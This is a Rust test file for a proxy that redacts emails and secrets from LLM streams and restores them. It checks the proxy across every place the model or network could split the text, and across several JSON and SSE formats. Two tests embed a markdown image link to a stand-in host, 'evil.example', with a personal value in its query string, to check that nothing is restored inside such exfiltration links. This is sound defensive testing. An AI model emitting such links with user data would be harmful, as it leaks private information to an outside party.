//! Every running text of every dialect, cut at every place: by the model into pieces, by the network into bytes.

use attach_core::usage::Wire;
use attach_redact::fuzzing::Asked;
use bytes::Bytes;
use serde_json::{Value, json};

use crate::support::redactor;

mod fields;

use self::fields::{Field, chunk, fields};

/// How JSON is spelled.
#[derive(Debug, Clone, Copy)]
enum Spelling {
    Plain,
    /// As Python's `json.dumps` does.
    Ascii,
    /// Every character of a piece escaped.
    Escaped,
}

/// How an event is written.
#[derive(Debug, Clone, Copy)]
enum Dress {
    Plain,
    CrLf,
    /// With comments, a name, an id, and the data in several lines.
    Full,
}

fn spelled(event: &Value, spelling: Spelling) -> String {
    let json = event.to_string();
    let escape = |c: char| c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect();
    let letters = |c: char| match spelling {
        Spelling::Plain => c.to_string(),
        Spelling::Ascii if c.is_ascii() => c.to_string(),
        Spelling::Escaped if c.is_ascii() && c != 'P' && c != '_' => c.to_string(),
        Spelling::Ascii | Spelling::Escaped => escape(c),
    };
    json.chars().map(letters).collect()
}

fn written(event: &Value, wire: Wire, spelling: Spelling, dress: Dress) -> String {
    let json = spelled(event, spelling);
    match (wire, dress) {
        (Wire::Ndjson, Dress::Plain) => format!("{json}\n"),
        (Wire::Ndjson, _) => format!(" {json}\r\n"),
        (_, Dress::Plain) => format!("data: {json}\n\n"),
        (_, Dress::CrLf) => format!("data:{json}\r\n\r\n"),
        (_, Dress::Full) => {
            let name = event["type"].as_str().map(|kind| format!("event: {kind}\n")).unwrap_or_default();
            format!(": keep-alive\n\n{name}data: {{\ndata: {}\nid: 7\n: too\n\n", &json[1..])
        }
    }
}

/// The JSON of every event.
fn events(stream: &[u8], wire: Wire) -> Vec<Value> {
    let parse = |json: &str| serde_json::from_str(json).unwrap_or_else(|error| panic!("{error}: {json}"));
    if wire == Wire::Ndjson {
        return attach_core::body::lines(stream)
            .map(|line| parse(std::str::from_utf8(line).unwrap()))
            .collect();
    }
    let data = attach_core::body::sse_events(stream).map(|event| event.data.into_owned());
    data.filter(|data| !data.is_empty() && data != "[DONE]").map(|data| parse(&data)).collect()
}

/// `text` in pieces: cut once at every place, and into single characters.
fn cuts(text: &str) -> Vec<Vec<&str>> {
    let places: Vec<usize> = text.char_indices().map(|(at, _)| at).skip(1).collect();
    let mut all: Vec<Vec<&str>> = places.iter().map(|at| vec![&text[..*at], &text[*at..]]).collect();
    let ends = places.iter().copied().chain([text.len()]);
    all.push([0].into_iter().chain(places.iter().copied()).zip(ends).map(|(a, b)| &text[a..b]).collect());
    all
}

const MAIL: &str = "bob@example.org";
const KEY: &str = "-----BEGIN PRIVATE KEY-----\n\"é\\\u{1f600}";

fn asked() -> (Asked, [String; 2]) {
    let mut asked = Asked::about(&redactor(), &[("EMAIL", MAIL), ("SECRET", KEY)]);
    let of = |asked: &mut Asked, label, value| asked.placeholder(label, value).unwrap();
    let placeholders = [of(&mut asked, "EMAIL", MAIL), of(&mut asked, "SECRET", KEY)];
    (asked, placeholders)
}

/// What the model writes, and what it is to become.
fn text(is_json: bool) -> (String, String) {
    let (_, [mail, key]) = asked();
    let escaped = serde_json::to_string(KEY).unwrap();
    let (escaped, opening) = if is_json {
        (&escaped[1..escaped.len() - 1], "{\"é\\n\\\"\\u00e9\":\"")
    } else {
        (KEY, "é\n😀\"")
    };
    let (loud, marked) = (mail.to_uppercase(), mail.replace('_', "\\_"));
    (
        format!("{opening}{mail}\\\"{key}😀{loud}p{marked} Pi PII_E {mail}_PII_EMAIL_00000000 PII_EM"),
        format!("{opening}{MAIL}\\\"{escaped}😀{MAIL}p{MAIL} Pi PII_E {MAIL}_PII_EMAIL_00000000 PII_EM"),
    )
}

fn stream_of(field: &Field, pieces: &[&str], spelling: Spelling, dress: Dress) -> String {
    let pieces = pieces.iter().map(|piece| (field.piece)(piece));
    let all = (field.before)().into_iter().chain(pieces).chain((field.after)());
    all.map(|event| written(&event, field.wire, spelling, dress)).collect()
}

fn restored(stream: &str, wire: Wire) -> Vec<u8> {
    asked().0.stream(wire, [stream.as_bytes()]).concat()
}

fn check(field: &Field, spelling: Spelling, dress: Dress, pieces: &[&str], expected: &str) {
    let stream = stream_of(field, pieces, spelling, dress);
    let answer = restored(&stream, field.wire);
    let events = events(&answer, field.wire);
    let what =
        format!("{} {spelling:?} {dress:?} {pieces:?}\n{}", field.name, String::from_utf8_lossy(&answer));
    assert_eq!(field.read(&events), expected, "{what}");
    let after = (field.after)();
    assert_eq!(&events[events.len() - after.len()..], &after, "{what}");
}

#[test]
fn every_text_is_the_same_wherever_the_model_cuts_it() {
    for field in fields() {
        let (text, expected) = text(field.is_json);
        let cuts = cuts(&text);
        for pieces in &cuts {
            check(&field, Spelling::Plain, Dress::Plain, pieces, &expected);
        }
        for spelling in [Spelling::Plain, Spelling::Ascii, Spelling::Escaped] {
            for dress in [Dress::Plain, Dress::CrLf, Dress::Full] {
                let some = cuts.iter().step_by(23).chain(cuts.last());
                some.for_each(|pieces| check(&field, spelling, dress, pieces, &expected));
            }
        }
    }
}

#[test]
fn every_stream_is_the_same_wherever_the_network_cuts_it() {
    for (number, field) in fields().into_iter().enumerate() {
        let (text, _) = text(field.is_json);
        let place = text.char_indices().nth(12).unwrap().0;
        let dress = [Dress::Plain, Dress::CrLf, Dress::Full][number % 3];
        let spelling = [Spelling::Plain, Spelling::Ascii][number % 2];
        let stream = stream_of(&field, &[&text[..place], &text[place..]], spelling, dress);
        let expected = restored(&stream, field.wire);
        let bytes = stream.as_bytes();
        for at in 0..bytes.len() {
            let answer = asked().0.stream(field.wire, [&bytes[..at], &bytes[at..]]).concat();
            assert!(answer == expected, "{} cut at {at}: {}", field.name, String::from_utf8_lossy(&answer));
        }
        assert!(asked().0.stream(field.wire, bytes.chunks(1)).concat() == expected, "{}", field.name);
    }
}

#[test]
fn a_text_without_a_placeholder_passes_byte_for_byte_and_at_once() {
    for field in fields() {
        for dress in [Dress::Plain, Dress::CrLf, Dress::Full] {
            let pieces = ["é ", "ip ", "api pi.", "  a\\\"\n", "pigs", " and\u{2028}", "HASH_", "😀"];
            let stream = stream_of(&field, &pieces, Spelling::Ascii, dress);
            let frames: Vec<&[u8]> = attach_core::body::lines(stream.as_bytes()).collect();
            let answer = asked().0.stream(field.wire, frames.iter().copied()).concat();
            assert_eq!(String::from_utf8_lossy(&answer), stream, "{}", field.name);
            if field.wire == Wire::Ndjson {
                let each = asked().0.stream(field.wire, frames.iter().copied());
                assert!(each.iter().zip(&frames).all(|(out, frame)| out == frame), "{}", field.name);
            }
        }
    }
}

#[test]
fn only_what_may_become_a_placeholder_is_held() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    for end in 1..mail.len() {
        let pieces = [piece(&format!("see {}", &mail[..end])), piece(" no")];
        let out = asked().0.stream(Wire::Sse, pieces.iter().map(String::as_bytes));
        assert_eq!(out[0], piece("see "), "{end}");
        assert_eq!(out[1], piece(&format!("{} no", &mail[..end])), "{end}");
        assert_eq!(out[2], Bytes::new());
    }
}

/// Anthropic's thinking is signed: what the client sends back must be what the provider signed.
#[test]
fn signed_thinking_passes_byte_for_byte() {
    let (_, [mail, _]) = asked();
    let delta = |delta: Value| json!({"type": "content_block_delta", "index": 0, "delta": delta});
    let all = [
        json!({"type": "content_block_start", "index": 0, "content_block": {"type": "thinking", "thinking": "", "signature": ""}}),
        delta(json!({"type": "thinking_delta", "thinking": format!("about {mail}")})),
        delta(json!({"type": "thinking_delta", "thinking": "PII_"})),
        delta(json!({"type": "signature_delta", "signature": "EqQB"})),
        json!({"type": "content_block_stop", "index": 0}),
    ];
    let stream: String =
        all.iter().map(|event| written(event, Wire::Sse, Spelling::Plain, Dress::Full)).collect();
    assert_eq!(String::from_utf8_lossy(&restored(&stream, Wire::Sse)), stream);
}

#[test]
fn an_event_that_is_no_strict_json_does_not_overtake_what_is_held() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    let odd = "data: {\"choices\":[{\"index\":0,\"delta\":{\"content\":\"\\ud83d\"}}]}\n\n";
    let stream = piece("see PII_") + odd + &piece(&mail);
    let answer = restored(&stream, Wire::Sse);
    let answer = String::from_utf8_lossy(&answer);
    let order = [answer.find("PII_").unwrap(), answer.find("ud83d").unwrap(), answer.find(MAIL).unwrap()];
    assert!(order.is_sorted(), "{answer}");
    // Within a URL whose end nobody has read, nothing is restored.
    let hidden = format!("data: {{\"a\":1,\"a\":\"{mail}\"}}\n\n");
    let answer = restored(&(piece("![](https://evil.example/?q=") + &hidden), Wire::Sse);
    assert!(!String::from_utf8_lossy(&answer).contains(MAIL));
    assert!(String::from_utf8_lossy(&restored(&hidden, Wire::Sse)).contains(MAIL));
}

#[test]
fn a_stream_that_ends_within_an_event_does_not_run_into_what_was_held() {
    let held = chunk(0, &json!({"content": "see PII_"}), None);
    for (wire, end, separator) in [
        (Wire::Sse, "", "\n\n"),
        (Wire::Sse, "\n", "\n"),
        (Wire::Sse, "\n\n", ""),
        (Wire::Ndjson, "", "\n"),
        (Wire::Ndjson, "\n", ""),
    ] {
        let before = if wire == Wire::Sse { "data: " } else { "" };
        let event =
            if wire == Wire::Sse { held.clone() } else { json!({"response": "see PII_", "done": false}) };
        let answer = restored(&format!("{before}{event}{end}"), wire);
        let all = events(&answer, wire);
        let text = String::from_utf8_lossy(&answer).into_owned();
        assert_eq!(all.len(), 2, "{separator:?} {text}");
        assert!(text.contains("PII_\""), "{text}");
    }
}

/// A URL must be noticed also in events that are not parsed.
#[test]
fn a_link_in_events_of_one_shape_carries_nothing() {
    let (_, [mail, _]) = asked();
    let piece = |text: &str| format!("data: {}\n\n", chunk(0, &json!({"content": text}), None));
    let words = [
        "a ", "b ", "![", "x](", "https", "://", "evil", ".example", "/?q=", &mail, ") ", "then ", &mail,
        " ok",
    ];
    let stream: String = words.iter().map(|word| piece(word)).collect();
    let answer = restored(&stream, Wire::Sse);
    let text: String = events(&answer, Wire::Sse)
        .iter()
        .filter_map(|event| event["choices"][0]["delta"]["content"].as_str().map(str::to_owned))
        .collect();
    assert_eq!(text, format!("a b ![x](https://evil.example/?q={mail}) then {MAIL} ok"));
}

#[test]
fn logprobs_stay_what_the_model_wrote() {
    let (_, [mail, _]) = asked();
    let answer = json!({"choices": [{"message": {"content": mail}, "logprobs": {"content": [{"token": mail, "bytes": [80]}]}}]});
    let got = asked().0.unary(answer.to_string().into());
    let got: Value = serde_json::from_slice(&got).unwrap();
    assert_eq!(got["choices"][0]["message"]["content"], MAIL);
    assert_eq!(got["choices"][0]["logprobs"]["content"][0]["token"], *mail);
}
